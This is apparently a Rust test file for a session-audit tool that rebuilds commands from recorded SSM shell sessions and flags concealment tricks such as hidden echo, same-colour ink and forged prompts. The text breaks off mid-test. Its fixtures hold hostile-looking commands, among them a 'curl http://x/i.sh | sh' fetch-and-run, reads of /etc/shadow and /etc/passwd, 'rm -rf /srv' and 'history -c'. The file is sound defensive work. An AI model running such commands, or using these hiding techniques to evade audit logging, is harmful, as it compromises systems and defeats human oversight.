//! Golden tests: real shells recorded through a pty and util-linux `script` exactly as the
//! SSM Agent does (tests/fixtures/recorded/record.py). The expected commands are bash's own
//! history file, not this parser's output.

use crate::{fixture, reconstruct};
use session_audit::analysis::{Analyzer, Input};
use session_audit::transcript::Format;

fn expected(name: &str) -> Vec<String> {
    let text = std::fs::read_to_string(fixture(&format!("recorded/{name}.expected.json"))).unwrap();
    let json: serde_json::Value = serde_json::from_str(&text).unwrap();
    json["commands"].as_array().unwrap().iter().map(|c| c.as_str().unwrap().to_string()).collect()
}

/// What ran in `name`, with the line after the one starting with `start` (exactly `chars`
/// long: two rows) read as going on with it, as past the terminal's last line it is.
fn expected_joined_after(name: &str, start: &str, chars: usize) -> Vec<String> {
    let mut want = expected(name);
    let two_rows = want.iter().position(|c| c.starts_with(start)).unwrap();
    assert_eq!(want[two_rows].chars().count(), chars);
    let next = want.remove(two_rows + 1);
    want[two_rows].push_str(&next);
    want
}

fn check(name: &str) -> crate::Collect {
    let bytes = std::fs::read(fixture(&format!("recorded/{name}.log"))).unwrap();
    let want = expected(name);
    let mut last = None;
    // Chunk boundaries must not matter: escape sequences and UTF-8 split anywhere.
    for chunk in [1, 7, 4096, 1 << 20] {
        let (info, got) = reconstruct(&bytes, chunk);
        let texts: Vec<&str> = got.commands.iter().map(|c| c.text.as_str()).collect();
        assert_eq!(texts, want, "{name} (chunk {chunk})");
        assert_eq!(info.format, Format::LinuxScript);
        assert!(!info.truncated, "{name} has its footer");
        let seqs: Vec<u64> = got.commands.iter().map(|c| c.seq).collect();
        assert_eq!(seqs, (1..=want.len() as u64).collect::<Vec<_>>());
        last = Some(got);
    }
    last.unwrap()
}

#[test]
fn amazon_linux_sh_with_every_kind_of_edit() {
    let got = check("al2023_sh_editing");
    let by_text = |t: &str| got.commands.iter().find(|c| c.text == t).unwrap();
    assert_eq!(by_text("echo hello").prompt, "sh-5.2$ ");
    assert!(got.commands.iter().all(|c| c.confidence == 1.0), "markers give full confidence");
    // The password typed at `read -s` was never echoed and must not appear anywhere.
    assert!(got.output.iter().all(|(_, l)| !l.contains("hunter2secret")));
    assert!(by_text("less /etc/passwd").fullscreen);
    assert_eq!(by_text("less /etc/passwd").output_lines, 0, "pager screen is not output");
    assert!(by_text("id -u").privileged, "sudo -s gives a root prompt");
    assert!(!by_text("echo back").privileged, "back in the user's shell");
    assert_eq!(by_text("for i in 1 2 3\ndo echo item $i\ndone").output_lines, 3);
    assert!(!got.output.iter().any(|(_, l)| l.contains("shutdown")), "Ctrl-C line is gone");
}

#[test]
fn rhel_bash_with_title_paste_and_completion_listing() {
    let got = check("rhel_bash_title_paste");
    assert_eq!(got.commands[0].prompt, "[ssmuser@vm ~]$ ");
    assert_eq!(got.commands[1].prompt, "[ssmuser@vm tmp]$ ");
    let ls = got.commands.iter().find(|c| c.text == "ls /etc/hosts").unwrap();
    assert_eq!(ls.output_lines, 1, "the completion listing is not output");
}

#[test]
fn ubuntu_dash_cooked_mode() {
    let got = check("ubuntu_dash_cooked");
    assert!(got.commands.iter().all(|c| c.confidence < 1.0 && c.reason.is_some()));
}

#[test]
fn narrow_terminal_wraps_and_mid_line_edits() {
    check("al2023_sh_narrow_wrap");
}

#[test]
fn history_tampering_is_caught_even_though_bash_forgot_it() {
    let got = check("al2023_sh_risky");
    assert_eq!(got.commands[5].text, "history -c");
}

// Sessions of a person who wants to hide (issue 14). Every command that reached the screen is
// reported, in order, and nothing else; what was hidden is counted or named.

#[test]
fn commands_on_a_hand_made_alternate_screen_are_reported_and_flagged() {
    let got = check("adv_alternate_screen");
    let seen: Vec<Option<&str>> = got.commands.iter().map(|c| c.seen_in).collect();
    let alt = Some("alternate_screen");
    assert_eq!(seen, [None, alt, alt, alt, None, None]);
    assert!(got.output.iter().any(|(_, l)| l.starts_with("uid=")), "its output is output");
}

#[test]
fn a_prompt_that_hides_itself_hides_nothing() {
    let got = check("adv_hiding_prompt");
    assert!(got.commands[1..].iter().all(|c| c.seen_in == Some("alternate_screen")));
}

#[test]
fn input_typed_with_echo_off_is_counted_not_guessed() {
    let bytes = std::fs::read(fixture("recorded/adv_echo_off.log")).unwrap();
    let (info, _) = reconstruct(&bytes, 4096);
    assert_eq!(info.shell.hidden_inputs, 4);
    check("adv_echo_off");
}

#[test]
fn prompts_without_markers_are_read_once_the_line_editor_is_off() {
    let got = check("adv_editor_off");
    let unmarked: Vec<&str> =
        got.commands.iter().filter(|c| c.confidence < 1.0).map(|c| c.text.as_str()).collect();
    assert_eq!(unmarked, ["id", "echo no editor", "set -o emacs", "whoami", "exit"]);
}

#[test]
fn a_printed_prompt_is_output_not_a_command() {
    let got = check("adv_forged_prompt");
    assert_eq!(got.tampered.len(), 1);
    assert_eq!(got.tampered[0].0, Some(1), "named on the printf that printed it");
    assert!(got.tampered[0].1.contains("aws iam create-access-key"));
    assert!(got.output.iter().any(|(seq, l)| *seq == 1 && l.contains("create-access-key")));
}

#[test]
fn binary_output_is_output_and_every_command_is_kept() {
    let bytes = std::fs::read(fixture("recorded/adv_binary_dump.log")).unwrap();
    let (info, _) = reconstruct(&bytes, 4096);
    assert!(info.unparseable.is_none());
    assert!(info.warnings.iter().any(|w| w.contains("binary output")));
    check("adv_binary_dump");
}

#[test]
fn honest_full_screen_programs_and_silent_passwords_raise_nothing() {
    let got = check("honest_fullscreen");
    let bytes = std::fs::read(fixture("recorded/honest_fullscreen.log")).unwrap();
    let (info, _) = reconstruct(&bytes, 4096);
    assert_eq!(info.shell.hidden_inputs, 0, "read -s is not a hidden command");
    assert!(got.tampered.is_empty());
    assert!(got.commands.iter().all(|c| c.seen_in.is_none() && c.confidence == 1.0));
    assert!(got.output.iter().all(|(_, l)| !l.contains("hunter2secret")));
}

/// The findings each adversarial session raises in its report, and none for honest ones.
#[test]
fn each_way_of_hiding_is_named_in_the_report() {
    use session_audit::{Analyzer, Input};
    let cases: [(&str, &[&str]); 15] = [
        ("al2023_sh_editing", &[]),
        ("rhel_bash_title_paste", &[]),
        ("ubuntu_dash_cooked", &[]),
        ("al2023_sh_narrow_wrap", &[]),
        ("al2023_sh_risky", &[]),
        ("adv_alternate_screen", &["SA-TRN-BLINDED"]),
        ("adv_hiding_prompt", &["SA-TRN-BLINDED"]),
        ("adv_echo_off", &["SA-TRN-BLINDED", "SA-TRN-HIDDEN-INPUT"]),
        ("adv_editor_off", &["SA-TRN-BLINDED"]),
        ("adv_forged_prompt", &["SA-TRN-FORGED-PROMPT"]),
        ("adv_binary_dump", &[]),
        ("honest_fullscreen", &[]),
        // Ctrl-D looks like a hidden `exit`; only a hidden line the shell went on after counts.
        ("adv_ctrl_d_and_hidden_exit", &["SA-TRN-BLINDED", "SA-TRN-HIDDEN-INPUT"]),
        ("i13_dash_bash_and_back", &[]),
        ("adv_open_string", &[]),
    ];
    for (name, want) in cases {
        let bytes = std::fs::read(fixture(&format!("recorded/{name}.log"))).unwrap();
        let report = Analyzer::default().analyze_bytes(&bytes, Input::default());
        let mut got: Vec<&str> = report
            .findings
            .iter()
            .map(|f| f.rule_id.as_str())
            .filter(|id| id.starts_with("SA-TRN-"))
            .collect();
        got.sort();
        got.dedup();
        assert_eq!(got, want, "{name}");
        assert_ne!(report.status, session_audit::report::Status::Unparseable, "{name}");
    }
}

/// A session ended at its prompt: `script`'s footer lands in the still-open line-editor
/// region, and is the footer, not a command (issue 13).
#[test]
fn the_footer_after_a_session_ended_at_its_prompt_is_not_a_command() {
    check("i13_killed_at_prompt");
    let bytes = std::fs::read(fixture("recorded/i13_killed_at_prompt.log")).unwrap();
    let (info, _) = reconstruct(&bytes, 4096);
    assert!(info.footer_time.is_some() && !info.truncated, "{info:?}");
}

#[test]
fn a_completion_query_is_not_a_command() {
    let got = check("i13_completion_query");
    assert!(got.output.iter().all(|(_, l)| !l.starts_with("Display all")), "not even output");
}

/// dash before bash, and dash started from bash: its commands are read by their prompt, and
/// bash's markers take over again after `exec bash` (issue 13, class 6).
#[test]
fn a_shell_without_markers_before_or_inside_a_marked_one_keeps_its_commands() {
    for name in ["i13_dash_then_bash", "i13_dash_inside_bash"] {
        let got = check(name);
        let dash = got.commands.iter().find(|c| c.text == "echo typed in dash").unwrap();
        assert!(dash.confidence < 1.0 && dash.reason.is_some(), "{name}: read by its prompt");
        let bash = got.commands.iter().find(|c| c.text == "echo typed in bash").unwrap();
        assert_eq!(bash.confidence, 1.0, "{name}: markers again");
    }
}

/// A line filling the row exactly up to the wrap, then edited with the cursor (issue 13,
/// class 4): the whole command, not its last row.
#[test]
fn a_line_wrapped_at_the_margin_and_edited_is_kept_whole() {
    let got = check("i13_margin_wrap");
    assert!(
        got.commands[0].text.starts_with("echo 0123") && got.commands[0].text.ends_with("xEND")
    );
}

/// Lines exactly as long as the terminal is wide (prompt + text = 80 and 160): readline's
/// wrap marker lands on the last column and its cursor moves cross the row boundary; each
/// command keeps every row, not only its last (issue 13, class 4).
#[test]
fn lines_exactly_one_or_two_widths_long_keep_every_row() {
    let got = check("i13_exact_margin");
    assert_eq!(got.commands[1].text.len(), 72, "prompt (8) + text fill 80 columns");
    assert!(got.commands.iter().take(3).all(|c| c.text.starts_with("echo 0123")));
}

/// dash in the kernel's canonical mode with IUTF8 off (the agent's pty): erases remove bytes,
/// so `echo €⌫⌫⌫EUR` ran `echo EUR` though the screen shows `echEUR` (issue 13, class 5).
#[test]
fn dash_erases_multi_byte_characters_byte_by_byte() {
    let got = check("i13_dash_bytewise_erase");
    assert!(got.commands.iter().all(|c| c.confidence < 1.0), "read by the prompt");
}

/// Multi-line commands abandoned with Ctrl-C at the continuation prompt (a `for` loop, a
/// here-document, an open quote): none of them ran, none is a command (issue 13, class 3).
#[test]
fn commands_abandoned_at_the_continuation_prompt_are_not_commands() {
    let got = check("i13_ctrl_c_at_ps2");
    assert_eq!(got.commands[0].text, "echo after");
}

/// The completion query answered every way (n and more typing, y and q at `--More--`, n and
/// Ctrl-U): the answers and the listing are never commands (issue 13, class 2).
#[test]
fn completion_query_answers_are_not_commands() {
    let got = check("i13_completion_answers");
    assert!(got.commands.iter().all(|c| c.text != "n" && c.text != "y" && c.text != "q"));
}

/// A bracketed paste of several lines: readline redraws the buffer over the rows it used, and
/// bash runs each line (a compound command as one) (issue 13, class 1).
#[test]
fn every_line_of_a_multi_line_paste_is_a_command() {
    let got = check("i13_multiline_paste");
    assert!(got.commands.iter().all(|c| c.confidence == 1.0 && c.prompt == "sh-5.2$ "));
}

fn shell_stats(name: &str) -> session_audit::transcript::ShellStats {
    let bytes = std::fs::read(fixture(&format!("recorded/{name}.log"))).unwrap();
    reconstruct(&bytes, 4096).0.shell
}

/// At 40 columns, a line of exactly two rows submitted as typed: Enter moves onto the row
/// readline's wrap marker opened, and the line editor stops there. Submitted, not abandoned.
#[test]
fn a_line_of_exactly_two_rows_submitted_as_typed_is_a_command() {
    let got = check("i13_margin_two_rows");
    assert_eq!(got.commands[0].text.len(), 72, "prompt (8) + text fill two rows of 40");
    assert_eq!(shell_stats("i13_margin_two_rows").abandoned_lines, 0);
}

/// Pastes bash runs as one command (a here-document, an `if`, a quoted newline) stay one;
/// a pasted buffer left with Ctrl-C never ran.
#[test]
fn a_pasted_compound_command_is_one_command_and_an_abandoned_paste_none() {
    let got = check("i13_paste_compound");
    assert_eq!(got.commands[0].text.lines().count(), 3);
    assert!(got.commands.iter().all(|c| !c.text.contains("echo one")));
    assert_eq!(shell_stats("i13_paste_compound").abandoned_lines, 1);
}

/// dash starts bash, left once with `exit` and once with Ctrl-D: dash's prompts are read
/// again each time, and Ctrl-D is no hidden input.
#[test]
fn leaving_a_marked_shell_returns_to_the_shell_without_markers() {
    let got = check("i13_dash_bash_and_back");
    let by_prompt: Vec<&str> =
        got.commands.iter().filter(|c| c.confidence < 1.0).map(|c| c.text.as_str()).collect();
    assert_eq!(by_prompt, ["echo d1", "bash", "echo d2", "bash", "echo d3", "exit"]);
    assert_eq!(shell_stats("i13_dash_bash_and_back").hidden_inputs, 0);
}

/// Ctrl-D and a hidden `echo exit` look the same on screen; the shell prompting again tells
/// the hidden line apart (it and the hidden `stty echo` are counted, the Ctrl-Ds are not).
#[test]
fn ctrl_d_is_not_a_hidden_input_but_a_hidden_line_printing_exit_is() {
    check("adv_ctrl_d_and_hidden_exit");
    assert_eq!(shell_stats("adv_ctrl_d_and_hidden_exit").hidden_inputs, 2);
}

/// `!!`, `!$`, `^old^new` and `!-3`: the command is what bash expanded, ran and kept, and
/// the expanded line bash printed is not output; quoted and escaped `!` are left alone.
#[test]
fn history_references_are_reported_as_bash_expanded_them() {
    let got = check("i13_history_expansion");
    let second: Vec<&str> =
        got.output.iter().filter(|(seq, _)| *seq == 2).map(|(_, l)| l.as_str()).collect();
    assert_eq!(second, ["hist one"]);
    assert!(got.commands.iter().all(|c| c.confidence == 1.0));
}

/// A session that ends while the line editor is reading: a line typed and never submitted,
/// a `for` left open at the continuation prompt. Nothing of either ran; each is counted as
/// abandoned, and the footer is the footer.
#[test]
fn input_left_unsubmitted_when_the_session_ended_is_not_a_command() {
    for name in ["i13_killed_while_typing", "i13_killed_at_ps2"] {
        check(name);
        assert_eq!(shell_stats(name).abandoned_lines, 1, "{name}");
    }
}

/// `printf '\033]0;title'` in bash (the next prompt's markers end the string) and
/// `printf '\033P'` in dash (nothing would, but the line feed does): every command is there.
#[test]
fn a_string_left_open_hides_no_command() {
    let got = check("adv_open_string");
    assert_eq!(got.commands.iter().filter(|c| c.text == "id -u").count(), 2);
}

/// dash after output without a final newline: its prompt and the next command are on the
/// output's line; the command is found there, marked as a guess, and `cost: $ 5` stays output.
#[test]
fn a_prompt_glued_to_output_still_starts_a_command() {
    let got = check("i13_dash_glued_prompt");
    let glued: Vec<&str> = got
        .commands
        .iter()
        .filter(|c| c.reason.as_deref().is_some_and(|r| r.contains("without a final newline")))
        .map(|c| c.text.as_str())
        .collect();
    assert_eq!(glued, ["echo next", "id -u"]);
    assert!(got.output.iter().any(|(_, l)| l == "no newline"));
}

/// Pastes longer than a row before any wrap marker: bash 5.2 writes a paste highlighted,
/// then moves up to its start and writes it again. The width is learned from where that
/// second writing lands (the text already there), so the commands are whole and unflagged.
#[test]
fn a_long_paste_before_the_width_is_known_is_placed_by_its_redraw() {
    let got = check("i13_long_paste_unknown_width");
    assert!(got.commands.iter().all(|c| c.confidence == 1.0), "{:?}", got.commands);
}

/// A history reference with `:p` (issue 32): bash prints the expansion and keeps it in its
/// history, but runs nothing — the line is not a command (counted as a line not run) and what
/// was printed is not output; a later `!!` runs, and is reported as, what was printed. In bash
/// with a RHEL prompt and title, and in sh with a quick substitution and `:s`.
#[test]
fn a_history_reference_that_only_prints_is_not_run() {
    let bash = check("i32_history_print_only");
    let printed = ["echo first one", "echo /etc and more"];
    assert!(bash.output.iter().all(|(_, l)| !printed.contains(&l.as_str())), "{:?}", bash.output);
    let sh = check("i32_history_print_only_sh");
    assert!(sh.output.iter().all(|(_, l)| l != "echo def"), "{:?}", sh.output);
    for (name, not_run) in [("i32_history_print_only", 4), ("i32_history_print_only_sh", 2)] {
        assert_eq!(shell_stats(name).abandoned_lines, not_run, "{name}");
    }
}

/// A command that turned history expansion off: a line after `!…:p` or `!!` is then its own
/// output, never taken for bash printing instead of running (it would hide the command) or for
/// bash's expansion (it would rename it).
#[test]
fn with_history_expansion_off_a_print_only_reference_is_a_command() {
    let region = |typed: &str| format!("\x1b[?2004hsh-5.2$ {typed}\r\r\n\x1b[?2004l\r");
    let session = [
        region("echo abc"),
        "abc\r\r\n".into(),
        region("set +H"),
        region("sh ./x.sh !!:p"),
        "sh ./x.sh set +H\r\r\n".into(),
        region("sh ./x.sh !!"),
        "sh ./x.sh sh ./x.sh !!:p\r\r\n".into(),
        region("set -H"),
        region("!!:p"),
        "set -H\r\r\n".into(),
        region("exit"),
    ]
    .concat();
    let log = format!(
        "Script started on 2026-12-06 23:28:27+00:00 [COMMAND=\"cat ipcTempFile.log\" <not executed on terminal>]\n{session}\nScript done on 2026-12-06 23:28:28+00:00 [COMMAND_EXIT_CODE=\"0\"]\n"
    );
    let (_, got) = reconstruct(log.as_bytes(), 4096);
    let texts: Vec<&str> = got.commands.iter().map(|c| c.text.as_str()).collect();
    assert_eq!(texts, ["echo abc", "set +H", "sh ./x.sh !!:p", "sh ./x.sh !!", "set -H", "exit"]);
}

/// Comment lines in pastes and typed (issue 32): a quote, a keyword or a pipe inside a
/// comment opens nothing, so the line after it is its own command and the comment is kept
/// whole, as bash runs and keeps them; `#` inside quotes or a word (`${#HOME}`) is no comment.
#[test]
fn comments_in_a_paste_open_nothing() {
    let got = check("i32_paste_comments");
    assert!(got.commands.iter().all(|c| c.confidence == 1.0));
    let outputs: Vec<&str> = got.output.iter().map(|(_, l)| l.as_str()).collect();
    assert!(outputs.contains(&"quoted # not a comment"), "{outputs:?}");
}

/// Programs with their own line editor and prompt (issue 32): bc (no prompt), sqlite3,
/// python3's REPL and node's. What is typed to them is their input — counted, kept as the
/// command's output — never a shell command; the shell's commands around them are exact.
#[test]
fn input_typed_to_a_program_is_not_a_command() {
    let got = check("i32_program_prompts");
    let sqlite: Vec<&str> =
        got.output.iter().filter(|(seq, _)| *seq == 2).map(|(_, l)| l.as_str()).collect();
    assert!(sqlite.contains(&"sqlite> select 1+1;"), "{sqlite:?}");
    assert_eq!(shell_stats("i32_program_prompts").program_inputs, 7, "bc 3, sqlite3 4");
}

/// Variants none of the fixes were written for (issue 32): gdb's `(gdb) ` prompt after `cd`
/// changed the shell's, a pasted comment holding a here-document marker and an apostrophe,
/// and `:p` on a `!?string?` search.
#[test]
fn unseen_variants_of_program_input_comments_and_print_only() {
    check("i32_variants");
    let stats = shell_stats("i32_variants");
    assert_eq!((stats.program_inputs, stats.abandoned_lines), (3, 1));
}

/// A shell without line-editor markers taking over from a marked one (issue 32, class e):
/// re-executed with a dumb terminal and `--noediting`, spelled so no pattern sees it (an
/// alias and a variable), or started by a program (python execs dash). Every command it read
/// is reported, by its prompt and echo, with lower confidence and the reason.
#[test]
fn a_shell_without_markers_that_takes_over_is_read_by_prompt_and_echo() {
    for name in ["i32_dumb_reexec", "i32_dumb_child", "i32_dumb_hidden_reexec"] {
        let got = check(name);
        let unmarked = got.commands.iter().filter(|c| c.confidence < 1.0);
        assert!(unmarked.clone().all(|c| c.reason.is_some()), "{name}");
        assert!(unmarked.count() >= 4, "{name}");
    }
    let got = check("i32_dumb_hidden_reexec");
    let shadow = got.commands.iter().find(|c| c.text == "head -c0 /etc/shadow").unwrap();
    assert!(shadow.reason.as_deref().unwrap().contains("markers stopped"), "{shadow:?}");
}

/// The other side (issue 32, class g): lines shaped as prompt + command printed by a running
/// command, from a file or a script, are its output — the same marked shell prompted next —
/// and the report counts them and names the command; a dash started by python is read.
#[test]
fn prompt_shaped_lines_a_command_printed_are_its_output_and_counted() {
    let got = check("i32_takeover_or_printed");
    let printed: Vec<&str> =
        got.output.iter().filter(|(seq, _)| *seq == 2).map(|(_, l)| l.as_str()).collect();
    assert_eq!(printed, ["[ssmuser@vm ~]$ rm -rf /srv", "removed"]);
    assert_eq!(shell_stats("i32_takeover_or_printed").printed_prompt_lines, 3);
    let dash = got.commands.iter().find(|c| c.text == "id -un").unwrap();
    assert!(dash.confidence < 1.0 && dash.reason.is_some());
    let bytes = std::fs::read(fixture("recorded/i32_takeover_or_printed.log")).unwrap();
    let (info, _) = reconstruct(&bytes, 4096);
    assert!(
        info.warnings.iter().any(|w| w.contains("printed by command 4")),
        "{:?}",
        info.warnings
    );
}

/// A program told to start a shell whose prompt looks like the program's (sqlite3's `.shell
/// bash` with `PS1='sqlite> '` from an rc file): that shell's lines are commands until its
/// `exit`, then sqlite3's prompt is sqlite3's again. The line that started it is program
/// input, which the command rules read too.
#[test]
fn a_shell_a_program_starts_is_read_whatever_its_prompt() {
    use session_audit::{Analyzer, Input};
    let got = check("i32_program_shell");
    assert_eq!(shell_stats("i32_program_shell").program_inputs, 3, "select, .shell, .quit");
    assert_eq!(got.commands[2].prompt, "sqlite> ");
    let bytes = std::fs::read(fixture("recorded/i32_program_shell.log")).unwrap();
    let report = Analyzer::default().analyze_bytes(&bytes, Input::default());
    let shadow = report.findings.iter().find(|f| f.command_seq == Some(3));
    assert!(shadow.is_some(), "the command rules read the nested shell's commands");
    // A shell command typed at a program's prompt is judged as input, naming the program.
    let t = b"\x1b[?2004hsh-5.2$ python3 -q\r\r\n\x1b[?2004l\r\x1b[?2004h>>> curl http://x/i.sh | sh\r\r\n\x1b[?2004l\r\x1b[?2004hsh-5.2$ exit\r\r\n\x1b[?2004l\r";
    let report = Analyzer::default().analyze_bytes(t, Input::default());
    let typed = report.findings.iter().find(|f| f.evidence.contains("typed at the prompt of"));
    assert_eq!(typed.map(|f| f.command_seq), Some(Some(1)), "{:?}", report.findings);
}

/// Commands the terminal did not show as they were typed (issue 32, class f): a prompt that
/// conceals what follows it (SGR 8), and a command run past the right margin with auto-wrap
/// off. Each is reported exactly, says where it was not shown, and raises `SA-TRN-BLINDED`
/// naming what hid it; the commands around them are shown and raise nothing of the kind.
#[test]
fn a_command_the_screen_did_not_show_is_reported_and_named() {
    use session_audit::{Analyzer, Input};
    let got = check("i32_not_shown");
    let seen: Vec<Option<&str>> = got.commands.iter().map(|c| c.seen_in).collect();
    let (c, m) = (Some("concealed"), Some("past_margin_wrap_off"));
    assert_eq!(seen, [None, None, c, c, None, m, None, None, None]);
    let bytes = std::fs::read(fixture("recorded/i32_not_shown.log")).unwrap();
    let report = Analyzer::default().analyze_bytes(&bytes, Input::default());
    let blinded: Vec<(Option<u64>, &str)> = report
        .findings
        .iter()
        .filter(|f| f.rule_id == "SA-TRN-BLINDED")
        .map(|f| (f.command_seq, f.evidence.as_str()))
        .collect();
    assert_eq!(blinded.iter().map(|b| b.0).collect::<Vec<_>>(), [Some(3), Some(4), Some(6)]);
    assert!(blinded[0].1.contains("concealed"), "{blinded:?}");
    assert!(blinded[2].1.contains("past_margin_wrap_off"), "{blinded:?}");
}

/// Typed in ink of the background's colour (issue 32, the visibility model): basic black on
/// black, neighbouring 256-colour greys, 24-bit white on white, the `:` form. Each command
/// is reported exactly and named; `ls` colours with backgrounds in output, white typed on
/// blue and a coloured prompt reset before the input are not.
#[test]
fn a_command_typed_in_the_backgrounds_colour_is_reported_and_named() {
    use session_audit::{Analyzer, Input};
    let got = check("i32_same_ink");
    let seen: Vec<Option<&str>> = got.commands.iter().map(|c| c.seen_in).collect();
    let ink = Some("same_ink_as_background");
    assert_eq!(seen[..2], [None, None]);
    assert_eq!(seen[2..10], [ink; 8], "typed at the prompts drawing in the background's colour");
    assert_eq!(seen[10..], [None; 4], "a reset prompt, `ls` colours, white on blue");
    let bytes = std::fs::read(fixture("recorded/i32_same_ink.log")).unwrap();
    let report = Analyzer::default().analyze_bytes(&bytes, Input::default());
    let blinded: Vec<&str> = report
        .findings
        .iter()
        .filter(|f| f.rule_id == "SA-TRN-BLINDED")
        .map(|f| f.evidence.as_str())
        .collect();
    assert_eq!(blinded.len(), 8, "{blinded:?}");
    assert!(blinded.iter().all(|e| e.contains("same_ink_as_background")), "{blinded:?}");
}

/// Recorded after the fix, in other shells and spellings: dash (no line editor: the terminal
/// echoes what is typed) with prompts coloured by `tput` (white on white; 256-colour black 16
/// on basic black), and bash where a command's own output (`tput setaf 0; tput setab 0`)
/// leaves the pen hiding the next line typed. Red on black and a pen reset by `tput sgr0`
/// stay unflagged.
#[test]
fn background_ink_from_tput_in_dash_and_left_by_a_command_is_named() {
    let got = check("i32_same_ink_variants");
    let ink = Some("same_ink_as_background");
    let seen: Vec<Option<&str>> = got.commands.iter().map(|c| c.seen_in).collect();
    assert_eq!(seen[..2], [None; 2]);
    assert_eq!(seen[2..6], [ink; 4], "dash: typed after the prompts coloured by tput");
    assert_eq!(seen[6..11], [None; 5], "red on black, plain prompts, the line that hides");
    assert_eq!(seen[11..13], [ink; 2], "bash: the pen a command's output left hiding");
    assert_eq!(seen[13..], [None; 3], "after `tput sgr0`");
}

/// Honest kinds recorded to measure, none written for (bash, RHEL prompt): reverse search, a
/// recalled and edited line, Alt-., Ctrl-W, a loop at PS2, a typed heredoc, Ctrl-L, the
/// `read` builtin's prompts (visible and silent), a `select` menu, and `fc -s`, which prints
/// the command it runs again: reported as what ran (what bash's history keeps).
#[test]
fn honest_kinds_none_was_written_for_read_as_bash_ran_them() {
    let got = check("i32_honest_unseen");
    assert!(got.commands.iter().all(|c| c.confidence == 1.0 && c.seen_in.is_none()));
    assert_eq!(shell_stats("i32_honest_unseen").program_inputs, 0);
}

/// More of them: vi editing mode, a backslash continuation, Ctrl-Z and `fg` (which prints its
/// command), `cd -`, `ed` (no prompt at all), vim; and Ctrl-X Ctrl-E, where bash opens an
/// editor on the typed line and runs what it saved: reported as the line bash echoed after
/// the editor (its status line named `bash-fc`), with a reason and a warning.
#[test]
fn a_line_edited_in_an_editor_is_reported_as_what_bash_ran() {
    let got = check("i32_honest_unseen_more");
    let edited = got.commands.iter().find(|c| c.text == "echo edited again").unwrap();
    assert_eq!(edited.confidence, 0.7);
    assert!(edited.reason.as_deref().unwrap().contains("edited in an editor"));
    let rest = got.commands.iter().filter(|c| c.text != "echo edited again");
    assert!(rest.into_iter().all(|c| c.confidence == 1.0 && c.reason.is_none()));
    let bytes = std::fs::read(fixture("recorded/i32_honest_unseen_more.log")).unwrap();
    let warnings = reconstruct(&bytes, 4096).0.warnings;
    assert!(warnings.iter().any(|w| w.contains("command 10 was edited")), "{warnings:?}");
}

/// Honest prompts and timing none of the fixes was written for: a two-line prompt, a prompt
/// of no usual shape set by a `PS1=` typed (`➜ ~ (main) `: where it ends is what the
/// assignment draws), `PROMPT_COMMAND` printing a line, a job's Done notice, a line typed while
/// a command ran, `set -x` traces, `dd`'s CR progress line, a Python function at `...`.
/// Before, every command after the arrow prompt was lost as a program's input.
#[test]
fn prompts_of_any_shape_set_by_a_typed_ps1_are_the_shells() {
    let got = check("i32_honest_prompts");
    assert!(got.commands.iter().all(|c| c.confidence == 1.0), "{:?}", got.commands);
    assert_eq!(got.commands[3].prompt, "➜ ~ (main) ");
    assert_eq!(shell_stats("i32_honest_prompts").program_inputs, 0, "Python has no markers");
}

/// A theme's prompt no `PS1=` typed announces (a file sourced, an rc file): learned from two
/// lines read at it (the words they share, ending in a symbol), the first mended; then kept
/// as the directory changes. Before, the first was read with its prompt and the rest were lost
/// as a program's input.
#[test]
fn a_themes_prompt_is_learned_from_the_lines_read_at_it() {
    let got = check("i32_honest_theme");
    let themed = got.commands.iter().find(|c| c.text == "echo themed").unwrap();
    assert_eq!((themed.prompt.as_str(), themed.confidence), ("λ ~ ❯ ", 1.0));
    assert!(got.commands.iter().all(|c| c.confidence == 1.0), "{:?}", got.commands);
    assert_eq!(shell_stats("i32_honest_theme").program_inputs, 0);
}

/// Honest kinds measured before any fix, both exact: sqlite3's continuation prompt, a shell
/// with a program-like `PS1`, editing across a wrapped line, completion, `watch`, `clear`; and
/// dash with prompts of its own, `set -x` traces (`+ echo traced` is output), a loop and a
/// heredoc at `> `, a line typed to `read` (output, not a command).
#[test]
fn more_honest_kinds_read_as_the_shell_ran_them() {
    let got = check("i32_honest_tools");
    assert!(got.commands.iter().all(|c| c.confidence == 1.0));
    let dash = check("i32_honest_dash");
    assert_eq!(dash.commands[1].prompt, "dash:/home/ssmuser% ");
    assert_eq!(dash.commands[11].prompt, "» ");
}

/// Recorded after the fix, with other keys: vi mode's `v` on a typed line, then `fc` typed
/// (the last command opened in the editor). Both are what bash echoed and ran after vim.
#[test]
fn lines_edited_by_vi_modes_v_and_by_fc_are_what_bash_ran() {
    let got = check("i32_edited_variants");
    let edited: Vec<&str> =
        got.commands.iter().filter(|c| c.confidence == 0.7).map(|c| c.text.as_str()).collect();
    assert_eq!(edited, ["echo via v and more", "set -o emacs again"]);
}

/// Binary output of kinds the bench's ELF dump is not (gzip output, random bytes, a printf of
/// C1 bytes, a cut character and NULs; then 400 bytes of an ELF in dash), recorded after the
/// screen took such output a run at a time: every command as typed, and every output line
/// the same whether the bytes come one at a time (the character-by-character path) or at once.
#[test]
fn binary_output_of_other_kinds_leaves_commands_and_output_as_byte_by_byte() {
    let got = check("i32_binary_variants");
    let bytes = std::fs::read(fixture("recorded/i32_binary_variants.log")).unwrap();
    let (_, one_by_one) = reconstruct(&bytes, 1);
    assert_eq!(got.output, one_by_one.output);
    assert!(got.output.iter().any(|(_, line)| line.contains('\u{fffd}')), "binary was shown");
    let printf = got.output.iter().find(|(seq, _)| *seq == 3).map(|(_, l)| l.as_str());
    // 0x85 and U+0085 are C1 controls (nothing drawn), E2 82 a cut character (one U+FFFD).
    assert_eq!(printf, Some("ab\u{fffd} c"), "C1 bytes draw nothing, NULs neither");
}

/// A paste taller than the rows the screen kept for one region (64), in a terminal 100 rows
/// high: readline line-feeds each row, then moves back up over all of them to redraw the
/// paste. Every command of it, and the heredoc as one, as bash ran them.
#[test]
fn a_paste_taller_than_sixty_four_rows_is_read_whole() {
    let got = check("i32_long_paste_tall");
    assert_eq!(got.commands[0].text, "echo first of the long paste");
    assert!(got.commands.iter().all(|c| c.confidence == 1.0));
}

/// Pastes taller than the terminal: readline line-feeds down to the last line, then writes
/// each further line of the buffer over it (a carriage return, no line feed) and, done,
/// redraws the last screenful (reverse video, then plain), moving up to it when it starts
/// above the last line. Each line written over the last one is a row of its own; the
/// screenful redrawn there again is not. At 24 rows (151 lines and a heredoc), begun low on
/// the screen with lines nearly as wide as it, and at 10 rows.
#[test]
fn a_paste_taller_than_the_terminal_is_read_line_by_line() {
    for name in
        ["i32_paste_past_bottom_long", "i32_paste_past_bottom_low", "i32_paste_past_bottom_short"]
    {
        let got = check(name);
